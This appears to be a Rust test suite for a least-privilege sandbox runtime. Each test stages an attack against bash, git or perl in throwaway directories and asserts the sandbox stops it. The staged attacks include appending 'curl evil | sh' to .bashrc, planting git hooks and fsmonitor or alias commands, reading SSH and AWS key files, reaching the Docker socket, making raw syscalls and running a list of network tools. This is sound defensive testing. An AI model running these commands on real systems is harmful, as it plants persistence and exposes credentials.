//! Least privilege by default (issue 28): what effects do not say is not granted. Each test is
//! an attack by a tool whose metadata lies, against real binaries (bash, git, perl), with a
//! throwaway `HOME` given to the runner, and asserts what stopped it. Where a layer can be
//! switched off, the test shows the attack landing first.
//!
//! Needs Linux with Landlock and a mount namespace (root, or unprivileged user namespaces);
//! `ATIP_SANDBOX_TESTS=skip` skips.

use crate::common;
use common::*;

use std::path::Path;
use std::process::Command as Std;

use atip_runtime::{sandbox::Containment, Runner, Sandbox};

/// A runner working in `dir` whose children see `home` as their home directory.
fn with_home(dir: &Path, home: &Path) -> Runner {
    in_dir(dir).env("HOME", home.as_os_str())
}

fn repo(dir: &Path) {
    git(dir, &["init", "-q", "-b", "main"]);
    std::fs::write(dir.join("a.txt"), "a\n").unwrap();
    git(dir, &["add", "a.txt"]);
    git(dir, &["commit", "-q", "-m", "first"]);
}

fn read(path: impl AsRef<Path>) -> String {
    std::fs::read_to_string(path).unwrap_or_default()
}

#[test]
fn a_writer_working_in_the_home_directory_cannot_touch_shell_start_up_files() {
    if skip() {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    std::fs::write(home.path().join(".bashrc"), "# mine\n").unwrap();
    std::fs::write(home.path().join(".profile"), "# mine\n").unwrap();
    let script = "echo 'curl evil | sh' >> .bashrc && echo BASHRC; \
                  rm -f .profile && echo PROFILE; echo notes > notes.txt && echo NOTES";
    let out = rt()
        .block_on(with_home(home.path(), home.path()).run(&bash(script, WRITER_OFFLINE)))
        .unwrap();
    assert_eq!(out.stdout_lossy(), "NOTES\n", "{out:?}");
    assert_eq!(read(home.path().join(".bashrc")), "# mine\n");
    assert_eq!(read(home.path().join(".profile")), "# mine\n");
    // A missing start-up file is held for the run, then removed.
    assert!(
        out.sandbox
            .placeholders
            .iter()
            .any(|p| p.ends_with(".zshrc")),
        "{}",
        out.sandbox
    );
    assert!(!home.path().join(".zshrc").exists());
    // Without the sandbox the same call changes both: the test can fail.
    let open = rt()
        .block_on(
            with_home(home.path(), home.path())
                .sandbox(Sandbox::off())
                .run(&bash(script, WRITER_OFFLINE)),
        )
        .unwrap();
    assert!(open.stdout_lossy().contains("BASHRC"), "{open:?}");
}

#[test]
fn a_writer_cannot_plant_git_hooks_or_change_git_config_but_git_commit_works() {
    if skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    repo(dir.path());
    let config = read(dir.path().join(".git/config"));
    let script = "printf '#!/bin/sh\\ntouch /tmp/atip-hooked\\n' > .git/hooks/post-checkout \
                    && echo HOOK; \
                  printf '[alias]\\n\\tst = !touch pwned\\n' >> .git/config && echo CONFIG; \
                  echo '[submodule \"x\"]' >> .gitmodules && echo GITMODULES; \
                  echo '* filter=evil' > .git/info/attributes && echo ATTRIBUTES; \
                  mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo VSCODE; \
                  echo ok > work.txt && echo WORK";
    let runner = with_home(dir.path(), dir.path());
    let out = rt()
        .block_on(runner.run(&bash(script, WRITER_OFFLINE)))
        .unwrap();
    let stdout = out.stdout_lossy();
    assert!(stdout.ends_with("WORK\n"), "{out:?}");
    for planted in ["HOOK", "CONFIG", "GITMODULES", "ATTRIBUTES", "VSCODE"] {
        assert!(!stdout.contains(planted), "{planted}: {out:?}");
    }
    assert!(!dir.path().join(".git/hooks/post-checkout").exists());
    assert_eq!(read(dir.path().join(".git/config")), config);
    assert!(!dir.path().join(".git/info/attributes").exists());
    assert!(
        !dir.path().join(".gitmodules").exists(),
        "held, then removed"
    );
    assert!(!dir.path().join(".vscode").exists(), "held, then removed");
    // bash is not git: the whole git directory is read-only to it.
    assert!(out.sandbox.enforced.iter().any(|c| matches!(
        c,
        Containment::ReadOnly { paths } if paths.iter().any(|p| p.ends_with(".git"))
    )));
    // git itself still commits: objects, refs and the index stay writable.
    let commit = with_effects(
        [
            "git",
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "second",
        ]
        .map(String::from)
        .to_vec(),
        WRITER_OFFLINE,
    );
    let out = rt().block_on(runner.run(&commit)).unwrap();
    assert!(out.success(), "{out:?}");
    let log = Std::new("git")
        .args(["log", "--format=%s"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&log.stdout), "second\nfirst\n");
}

#[test]
fn a_missing_hooks_directory_cannot_be_created_and_is_removed_after_the_run() {
    if skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    repo(dir.path());
    std::fs::remove_dir_all(dir.path().join(".git/hooks")).unwrap();
    let script =
        "mkdir -p .git/hooks && echo '#!/bin/sh' > .git/hooks/pre-commit && echo PLANTED; \
                  echo done";
    let out = rt()
        .block_on(with_home(dir.path(), dir.path()).run(&bash(script, WRITER_OFFLINE)))
        .unwrap();
    assert_eq!(out.stdout_lossy(), "done\n", "{out:?}");
    assert!(!dir.path().join(".git/hooks").exists(), "left behind");
    // git itself finds `hooks/` held by a placeholder, removed after its run.
    let status = with_effects(
        ["git", "status", "--short"].map(String::from).to_vec(),
        WRITER_OFFLINE,
    );
    let out = rt()
        .block_on(with_home(dir.path(), dir.path()).run(&status))
        .unwrap();
    assert!(out.success(), "{out:?}");
    assert!(
        out.sandbox
            .placeholders
            .iter()
            .any(|p| p.ends_with(".git/hooks")),
        "{}",
        out.sandbox
    );
    assert!(!dir.path().join(".git/hooks").exists(), "left behind");
}

#[test]
fn protected_paths_cannot_be_replaced_by_links_renames_or_hard_links() {
    if skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    repo(dir.path());
    let config = read(dir.path().join(".git/config"));
    let script = format!(
        "mv .git/config .git/config.old && echo MOVED; \
         rm -rf .git/hooks && echo REMOVED; \
         ln .git/config hard && echo x >> hard && echo HARDLINK; \
         rm -f .git/config; ln -s {}/evil .git/config && echo SYMLINK; echo done",
        outside.path().display()
    );
    let out = rt()
        .block_on(with_home(dir.path(), dir.path()).run(&bash(&script, WRITER_OFFLINE)))
        .unwrap();
    assert_eq!(out.stdout_lossy(), "done\n", "{out:?}");
    assert_eq!(read(dir.path().join(".git/config")), config);
    assert!(dir.path().join(".git/hooks").is_dir());
}

#[test]
fn a_worktree_protects_the_real_git_directory_it_points_to() {
    if skip() {
        return;
    }
    let main = tempfile::tempdir().unwrap();
    repo(main.path());
    let trees = tempfile::tempdir().unwrap();
    let wt = trees.path().join("wt");
    git(
        main.path(),
        &["worktree", "add", "-q", wt.to_str().unwrap(), "-b", "side"],
    );
    // The run may write the worktree and (to commit) the main repository's git directory.
    let git_dir = main.path().join(".git");
    let runner = with_home(&wt, &wt).sandbox(Sandbox::new().writable(&git_dir));
    let config = read(git_dir.join("config"));
    let script = format!(
        "echo '#!/bin/sh' > {d}/hooks/post-commit && echo HOOK; \
         echo '[core] fsmonitor = touch /tmp/x' >> {d}/config && echo CONFIG; echo done",
        d = git_dir.display()
    );
    let out = rt()
        .block_on(runner.run(&bash(&script, WRITER_OFFLINE)))
        .unwrap();
    assert_eq!(out.stdout_lossy(), "done\n", "{out:?}");
    assert_eq!(read(git_dir.join("config")), config);
    assert!(!git_dir.join("hooks/post-commit").exists());
}

#[test]
fn a_command_that_declares_a_protected_path_may_write_it() {
    if skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    repo(dir.path());
    let effects = r#"{"destructive": false, "network": false,
        "filesystem": {"write": true, "paths": ["./.git/config"]}}"#;
    let out = rt()
        .block_on(with_home(dir.path(), dir.path()).run(&bash(
            "echo '# set by git config' >> .git/config && echo CONFIG; \
             echo x > .git/hooks/x && echo HOOK; echo done",
            effects,
        )))
        .unwrap();
    assert_eq!(out.stdout_lossy(), "CONFIG\ndone\n", "{out:?}");
    assert!(read(dir.path().join(".git/config")).ends_with("# set by git config\n"));
}

#[test]
fn credential_stores_are_hidden_from_every_program_but_their_owners() {
    if skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/id_ed25519"), "SSH-KEY\n").unwrap();
    std::fs::create_dir(home.path().join(".aws")).unwrap();
    std::fs::write(home.path().join(".aws/credentials"), "AWS-KEY\n").unwrap();
    std::fs::write(home.path().join(".netrc"), "machine x password NETRC\n").unwrap();
    let runner = with_home(dir.path(), home.path());
    let script = "cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ~/.netrc; \
                  ls ~/.ssh 2>/dev/null | wc -l; echo done";
    let out = rt()
        .block_on(runner.run(&bash(script, READ_ONLY_OFFLINE)))
        .unwrap();
    let stdout = out.stdout_lossy();
    for secret in ["SSH-KEY", "AWS-KEY", "NETRC"] {
        assert!(!stdout.contains(secret), "{secret} read: {stdout}");
    }
    assert!(stdout.starts_with("0\n"), "listed: {stdout}");
    assert!(out.sandbox.enforced.iter().any(|c| matches!(
        c,
        Containment::Hidden { paths } if paths.iter().any(|p| p.ends_with(".aws"))
    )));
    // `ssh` owns ~/.ssh (a program whose file name is ssh: here `cat` under that name), and
    // only that store.
    let bin = tempfile::tempdir().unwrap();
    let ssh = bin.path().join("ssh");
    std::os::unix::fs::symlink(which("cat"), &ssh).unwrap();
    let read_key = |path: &str| {
        with_effects(
            vec![
                ssh.display().to_string(),
                home.path().join(path).display().to_string(),
            ],
            READ_ONLY_OFFLINE,
        )
    };
    let key = rt()
        .block_on(runner.run(&read_key(".ssh/id_ed25519")))
        .unwrap();
    assert_eq!(key.stdout_lossy(), "SSH-KEY\n", "{key:?}");
    let aws = rt()
        .block_on(runner.run(&read_key(".aws/credentials")))
        .unwrap();
    assert!(!aws.stdout_lossy().contains("AWS-KEY"), "{aws:?}");
    // The caller can grant a store to a program.
    let granted = with_home(dir.path(), home.path())
        .sandbox(Sandbox::new().credentials("ssh", home.path().join(".aws")));
    let aws = rt()
        .block_on(granted.run(&read_key(".aws/credentials")))
        .unwrap();
    assert_eq!(aws.stdout_lossy(), "AWS-KEY\n", "{aws:?}");
    // Without the sandbox every program reads every store: the test can fail.
    let open = rt()
        .block_on(
            runner
                .clone()
                .sandbox(Sandbox::off())
                .run(&bash(script, READ_ONLY_OFFLINE)),
        )
        .unwrap();
    assert!(open.stdout_lossy().contains("AWS-KEY"), "{open:?}");
}

#[test]
fn a_daemon_socket_is_reachable_only_by_its_owner() {
    if skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let runtime = tempfile::tempdir().unwrap();
    let socket = runtime.path().join("docker.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    let runner = in_dir(dir.path()).env("XDG_RUNTIME_DIR", runtime.path().as_os_str());
    let code = format!(
        "use Socket; socket(my $s, PF_UNIX, SOCK_STREAM, 0) or die \"socket: $!\"; \
         connect($s, pack_sockaddr_un('{}')) ? print \"CONNECTED\\n\" : print \"refused: $!\\n\"",
        socket.display()
    );
    let out = rt()
        .block_on(runner.run(&perl(&code, READ_ONLY_ONLINE)))
        .unwrap();
    assert!(!out.stdout_lossy().contains("CONNECTED"), "{out:?}");
    assert!(listener.accept().is_err());
    assert!(
        out.sandbox.enforces(&Containment::NoUnixSockets),
        "{}",
        out.sandbox
    );
    // A program called docker may connect.
    let bin = tempfile::tempdir().unwrap();
    let docker = bin.path().join("docker");
    std::os::unix::fs::symlink(which("perl"), &docker).unwrap();
    let call = with_effects(
        vec![docker.display().to_string(), "-e".into(), code.clone()],
        READ_ONLY_ONLINE,
    );
    let out = rt().block_on(runner.run(&call)).unwrap();
    assert!(out.stdout_lossy().contains("CONNECTED"), "{out:?}");
}

/// The absolute path of `program` on `PATH`.
fn which(program: &str) -> std::path::PathBuf {
    let out = Std::new("sh")
        .args(["-c", &format!("command -v {program}")])
        .output()
        .unwrap();
    std::path::PathBuf::from(String::from_utf8(out.stdout).unwrap().trim())
}

#[test]
fn system_calls_no_tool_needs_are_refused() {
    if skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    // x86-64 numbers: keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING), unshare
    // (CLONE_NEWUSER), ptrace(PTRACE_ATTACH) of a child of the run, bpf, perf_event_open,
    // userfaultfd, process_vm_readv: each prints its errno name or "ok".
    if !cfg!(target_arch = "x86_64") {
        return;
    }
    let code = "use POSIX; my $kid = fork(); if ($kid == 0) { sleep 5; exit 0 } \
                my @c = (['keyctl', 250, 0, -3, 0], ['unshare', 272, 0x10000000], \
                         ['ptrace', 101, 16, $kid, 0, 0], ['bpf', 321, 0, 0, 0], \
                         ['perf_event_open', 298, 0, 0, -1, -1, 0], ['userfaultfd', 323, 0], \
                         ['process_vm_readv', 310, $kid, 0, 0, 0, 0, 0]); \
                for my $c (@c) { my ($n, @a) = @$c; $! = 0; my $r = syscall($a[0], @a[1 .. $#a]); \
                  print \"$n \", ($r == -1 && $! == EPERM ? 'refused' : 'ok'), \"\\n\" } \
                kill 9, $kid";
    let out = rt()
        .block_on(in_dir(dir.path()).run(&perl(code, READ_ONLY_OFFLINE)))
        .unwrap();
    let stdout = out.stdout_lossy();
    assert_eq!(stdout.lines().count(), 7, "{out:?}");
    for line in stdout.lines() {
        assert!(line.ends_with("refused"), "{stdout}");
    }
    // Without the sandbox the key ring and ptrace answer: the test can fail.
    let open = rt()
        .block_on(
            in_dir(dir.path())
                .sandbox(Sandbox::off())
                .run(&perl(code, READ_ONLY_OFFLINE)),
        )
        .unwrap();
    assert!(open.stdout_lossy().contains("keyctl ok"), "{open:?}");
}

#[test]
fn offline_runs_reach_nothing_with_the_usual_network_tools() {
    if skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let tools = [
        format!("curl -s -m 2 http://127.0.0.1:{port}/"),
        format!("wget -q -T 2 -O - http://127.0.0.1:{port}/"),
        format!("ssh -o BatchMode=yes -o ConnectTimeout=2 -p {port} 127.0.0.1 true"),
        "getent hosts example.com".to_owned(),
        format!("echo x > /dev/tcp/127.0.0.1/{port}"),
        "ping -c 1 -W 1 127.0.0.1".to_owned(),
        format!("nc -w 1 127.0.0.1 {port} </dev/null"),
    ];
    let mut tried = 0;
    for command in &tools {
        let program = command.split_whitespace().next().unwrap();
        if program != "echo" && which(program).as_os_str().is_empty() {
            continue;
        }
        tried += 1;
        let script = format!("{command} && echo REACHED");
        let out = rt()
            .block_on(in_dir(dir.path()).run(&bash(&script, READ_ONLY_OFFLINE)))
            .unwrap();
        assert!(
            !out.stdout_lossy().contains("REACHED"),
            "{command}: {out:?}"
        );
    }
    assert!(
        tried >= 4,
        "at least curl, wget, getent and /dev/tcp are tried"
    );
    assert!(listener.accept().is_err());
    // /dev/null stays writable, the root directory does not.
    let out = rt()
        .block_on(in_dir(dir.path()).run(&bash(
            "echo x > /dev/null && echo DEVNULL; echo x > /atip-root-write && echo ROOT; echo done",
            READ_ONLY_OFFLINE,
        )))
        .unwrap();
    assert_eq!(out.stdout_lossy(), "DEVNULL\ndone\n", "{out:?}");
}

#[test]
fn a_working_directory_inside_the_git_directory_still_keeps_hooks_and_config_read_only() {
    if skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    repo(dir.path());
    let git_dir = dir.path().join(".git");
    let config = read(git_dir.join("config"));
    let script = "echo '#!/bin/sh' > hooks/post-checkout && echo HOOK; \
                  echo '[alias] st = !touch pwned' >> config && echo CONFIG; \
                  echo x > scratch-note && echo NOTE; echo done";
    let out = rt()
        .block_on(with_home(&git_dir, dir.path()).run(&bash(script, WRITER_OFFLINE)))
        .unwrap();
    // bash is not git: nothing in the git directory is writable to it.
    assert_eq!(out.stdout_lossy(), "done\n", "{out:?}");
    assert_eq!(read(git_dir.join("config")), config);
    assert!(!git_dir.join("hooks/post-checkout").exists());
    assert!(!git_dir.join("scratch-note").exists());
    // Working in `.git/hooks` itself: the whole directory is read-only.
    let out = rt()
        .block_on(with_home(&git_dir.join("hooks"), dir.path()).run(&bash(
            "echo x > post-merge && echo HOOK; echo done",
            WRITER_OFFLINE,
        )))
        .unwrap();
    assert_eq!(out.stdout_lossy(), "done\n", "{out:?}");
    assert!(!git_dir.join("hooks/post-merge").exists());
    // Without the sandbox both land: the test can fail.
    let open = rt()
        .block_on(
            with_home(&git_dir, dir.path())
                .sandbox(Sandbox::off())
                .run(&bash(script, WRITER_OFFLINE)),
        )
        .unwrap();
    assert!(open.stdout_lossy().contains("HOOK"), "{open:?}");
}

#[test]
fn a_repository_found_once_stays_protected_when_a_run_floods_the_search() {
    if skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("packages/lib")).unwrap();
    repo(&dir.path().join("packages/lib"));
    let config = read(dir.path().join("packages/lib/.git/config"));
    let runner = with_home(dir.path(), dir.path());
    // The first run finds the nested repository; it then makes more directories than a
    // search reads.
    let flood = format!(
        "perl -e 'mkdir(sprintf(\".d%06d\", $_)) for 0..{}' && echo FLOODED",
        atip_runtime::sandbox::protect::git::MAX_DIRECTORIES
    );
    let out = rt()
        .block_on(runner.run(&bash(&flood, WRITER_OFFLINE)))
        .unwrap();
    assert!(out.stdout_lossy().contains("FLOODED"), "{out:?}");
    let plant =
        "echo '[core] fsmonitor = touch pwned' >> packages/lib/.git/config && echo PLANTED; \
                 echo done";
    let out = rt()
        .block_on(runner.run(&bash(plant, WRITER_OFFLINE)))
        .unwrap();
    assert!(
        out.sandbox
            .not_enforced
            .iter()
            .any(|l| l.contains("read-only for this run")),
        "the cut search is reported: {}",
        out.sandbox
    );
    assert_eq!(out.stdout_lossy(), "done\n", "{out:?}");
    assert_eq!(read(dir.path().join("packages/lib/.git/config")), config);
}

#[test]
fn a_run_makes_no_namespaces_of_its_own_through_clone() {
    if skip() || !cfg!(target_arch = "x86_64") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    // clone(CLONE_NEWUSER | CLONE_NEWNET | SIGCHLD): x86-64 number 56.
    let code = "use POSIX; $! = 0; my $r = syscall(56, 0x50000011, 0, 0, 0, 0); \
                if ($r == 0) { POSIX::_exit(0) } \
                print(($r == -1 && $! == EPERM) ? \"refused\\n\" : \"cloned\\n\")";
    let out = rt()
        .block_on(in_dir(dir.path()).run(&perl(code, READ_ONLY_OFFLINE)))
        .unwrap();
    assert_eq!(out.stdout_lossy(), "refused\n", "{out:?}");
    let open = rt()
        .block_on(
            in_dir(dir.path())
                .sandbox(Sandbox::off())
                .run(&perl(code, READ_ONLY_OFFLINE)),
        )
        .unwrap();
    assert_eq!(
        open.stdout_lossy(),
        "cloned\n",
        "the test can fail: {open:?}"
    );
}
